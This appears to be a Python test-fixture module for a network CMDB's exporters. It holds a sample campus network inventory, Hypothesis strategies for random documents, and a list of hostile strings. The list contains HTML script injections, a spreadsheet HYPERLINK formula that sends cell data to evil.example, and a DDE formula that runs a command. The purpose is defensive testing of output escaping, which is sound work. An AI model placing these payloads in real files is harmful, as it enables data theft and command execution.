"""Sample netcmdb/1 documents, hostile strings and hypothesis strategies for the exporter tests.

Imported by name (``import exporter_samples``): conftest.py puts this directory on sys.path.
Documents are built directly in the netcmdb/1 shape (foundation issue #2) so the exporters are
tested without a database; the CLI tests go through a real SQLite CMDB.
"""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

HOSTILE = [
    "<script>document.body.setAttribute('data-pwned','1')</script>",
    "<img src=x onerror=\"document.body.setAttribute('data-pwned','2')\">",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
    "a\x00b\x01c\x1bd",
    "bad utf-8 \udcff\udc80 from device",
    "\ufffe\uffff",
    "]]><x/>",
    "&amp; &lt; \"quotes\" 'single'",
    "back\\slash\\",
    "\\N \\G \\L \\l",
    "line\nbreak",
    "教学楼 1 号 交换机",
    "_x0041_",
    "   ",
]


def sample_document() -> dict[str, Any]:
    """A small campus: dual cores, distribution, access, PCs, a cluster, a service."""
    cis = [
        {
            "name": "core-1",
            "class": "switch",
            "role": "core",
            "ip": "10.0.0.1",
            "mac": "00:11:22:33:44:01",
            "serial": "FOC1111A",
            "vendor": "Cisco",
            "model": "C9500-24Y4C",
            "os": "IOS-XE",
            "os_version": "17.9.4",
            "location": {"building": "01", "floor": "01", "room": "01", "seat": 1},
            "label": "D010101-001",
        },
        {
            "name": "core-2",
            "class": "switch",
            "role": "core",
            "ip": "10.0.0.2",
            "vendor": "Huawei",
            "model": "S12704",
            "os": "VRP",
            "os_version": "V200R019",
            "location": {"building": "01", "floor": "01", "room": "01", "seat": 2},
            "label": "D010101-002",
        },
        {
            "name": "dist-2",
            "class": "switch",
            "role": "distribution",
            "ip": "10.0.2.1",
            "vendor": "H3C",
            "model": "S6520",
            "os": "Comware",
            "os_version": "7.1.070",
            "location": {"building": "02", "floor": "01", "room": "03"},
        },
        {
            "name": "acc-2-1",
            "class": "switch",
            "role": "access",
            "ip": "10.0.2.11",
            "mac": "58:69:6c:00:00:01",
            "vendor": "Ruijie",
            "model": "S2910-24GT4XS-E",
            "os": "RGOS",
            "os_version": "11.4",
            "location": {"building": "02", "floor": "02", "room": "10", "seat": 1},
            "label": "D020210-001",
        },
        {
            "name": "pc-0210-002",
            "class": "pc",
            "ip": "10.2.10.2",
            "mac": "3c:52:82:00:00:02",
            "vendor": "Lenovo",
            "model": "ThinkCentre M70",
            "os": "Windows",
            "os_version": "10",
            "location": {"building": "02", "floor": "02", "room": "10", "seat": 2},
            "label": "D020210-002",
        },
        {
            "name": "pc-0210-003",
            "class": "pc",
            "ip": "10.2.10.3",
            "vendor": "Lenovo",
            "os": "Windows",
            "location": {"building": "02", "floor": "02", "room": "10", "seat": 3},
        },
        {
            "name": "prn-0210",
            "class": "printer",
            "ip": "10.2.10.50",
            "vendor": "HP",
            "model": "LaserJet M404",
            "location": {"building": "02", "floor": "02", "room": "10"},
        },
        {
            "name": "db-1",
            "class": "server",
            "ip": "10.0.9.1",
            "vendor": "Dell",
            "model": "R740",
            "os": "Linux",
            "location": {"building": "01", "floor": "01", "room": "02"},
        },
        {
            "name": "db-2",
            "class": "server",
            "ip": "10.0.9.2",
            "vendor": "Dell",
            "model": "R740",
            "os": "Linux",
            "location": {"building": "01", "floor": "01", "room": "02"},
        },
        {"name": "his-db", "class": "cluster"},
        {"name": "his-app", "class": "service"},
        {"name": "orphan-ap", "class": "ap", "vendor": "Huawei", "model": "AirEngine 5760"},
    ]
    links = [
        {"a": "core-1", "a_port": "Te1/0/1", "b": "core-2", "b_port": "XGE1/0/1"},
        {"a": "core-1", "a_port": "Te1/0/2", "b": "dist-2", "b_port": "Ten-GigabitEthernet1/0/49"},
        {"a": "core-2", "a_port": "XGE1/0/2", "b": "dist-2", "b_port": "Ten-GigabitEthernet1/0/50"},
        {"a": "dist-2", "a_port": "GigabitEthernet1/0/1", "b": "acc-2-1", "b_port": "Gi0/25"},
        {"a": "acc-2-1", "a_port": "Gi0/2", "b": "pc-0210-002", "b_port": ""},
        {"a": "acc-2-1", "a_port": "Gi0/3", "b": "pc-0210-003"},
        {"a": "acc-2-1", "a_port": "Gi0/10", "b": "prn-0210", "b_port": "eth0"},
        {"a": "core-1", "a_port": "Gi1/0/10", "b": "db-1", "b_port": "eno1"},
        {"a": "core-2", "a_port": "GE1/0/10", "b": "db-2", "b_port": "eno1"},
    ]
    return {
        "format": "netcmdb/1",
        "cis": cis,
        "links": links,
        "dependencies": [{"from": "his-app", "to": "his-db"}],
        "groups": [{"name": "his-db", "members": ["db-1", "db-2"], "min_up": 1}],
    }


# Arbitrary text, including lone surrogates (what surrogateescape makes of invalid UTF-8)
# and control characters.
any_text = st.one_of(
    st.text(max_size=30),
    st.text(
        st.characters(min_codepoint=0, max_codepoint=0x10FFFF, blacklist_categories=()), max_size=30
    ),
    st.sampled_from(HOSTILE),
)


@st.composite
def documents(draw: st.DrawFn) -> dict[str, Any]:
    """Random documents whose every string field is arbitrary text."""
    names = draw(st.lists(any_text.filter(bool), min_size=1, max_size=6, unique=True))
    cis = []
    for name in names:
        ci: dict[str, Any] = {
            "name": name,
            "class": draw(
                st.sampled_from(["switch", "router", "pc", "server", "ap", "printer", "other"])
            ),
        }
        for k in ("role", "ip", "mac", "serial", "vendor", "model", "os", "os_version", "label"):
            if draw(st.booleans()):
                ci[k] = draw(any_text.filter(bool))
        if draw(st.booleans()):
            ci["location"] = {
                "building": draw(any_text.filter(bool)),
                "floor": draw(any_text.filter(bool)),
                "room": draw(any_text.filter(bool)),
                "seat": draw(st.integers(1, 999)),
            }
        cis.append(ci)
    links = []
    for _ in range(draw(st.integers(0, 6))):
        links.append(
            {
                "a": draw(st.sampled_from(names)),
                "a_port": draw(any_text),
                "b": draw(st.sampled_from(names)),
                "b_port": draw(any_text),
            }
        )
    return {"format": "netcmdb/1", "cis": cis, "links": links, "dependencies": [], "groups": []}


CI_KEYS = (
    "name",
    "class",
    "role",
    "ip",
    "mac",
    "serial",
    "vendor",
    "model",
    "os",
    "os_version",
    "label",
)
LOC_KEYS = ("building", "floor", "room", "seat")


def canonical(doc: dict[str, Any], text: Any = lambda s: s) -> dict[str, Any]:
    """A comparable form of a document: ``text`` applied to every string, empty values dropped,
    links/dependencies/groups as sorted tuples (their order is not part of the contract)."""

    def t(v: Any) -> Any:
        return text(v) if isinstance(v, str) else v

    cis = []
    for ci in doc["cis"]:
        c = {k: t(ci[k]) for k in CI_KEYS if ci.get(k) not in (None, "")}
        loc = {
            k: t(v)
            for k, v in (ci.get("location") or {}).items()
            if k in LOC_KEYS and v not in (None, "")
        }
        if loc:
            c["location"] = loc
        cis.append(c)
    links = sorted(
        (t(ln["a"]), t(ln.get("a_port") or ""), t(ln["b"]), t(ln.get("b_port") or ""))
        for ln in doc.get("links") or ()
    )
    deps = sorted((t(d["from"]), t(d["to"])) for d in doc.get("dependencies") or ())
    groups = sorted(
        (t(g["name"]), tuple(sorted(t(m) for m in g["members"])), g.get("min_up"))
        for g in doc.get("groups") or ()
    )
    return {"cis": cis, "links": links, "dependencies": deps, "groups": groups}
